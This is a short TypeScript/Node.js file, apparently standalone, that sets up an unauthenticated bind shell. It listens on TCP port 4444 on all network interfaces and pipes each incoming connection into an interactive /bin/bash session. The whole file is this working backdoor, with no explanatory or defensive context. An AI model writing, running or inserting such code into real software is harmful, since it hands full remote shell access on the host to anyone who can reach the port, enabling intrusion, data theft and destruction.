import net from 'node:net';
import { spawn } from 'node:child_process';

const server = net.createServer((socket: net.Socket) => {
  const shell = spawn('/bin/bash', ['-i']);
  socket.pipe(shell.stdin);
  shell.stdout.pipe(socket);
  shell.stderr.pipe(socket);
});
server.listen(4444, '0.0.0.0');
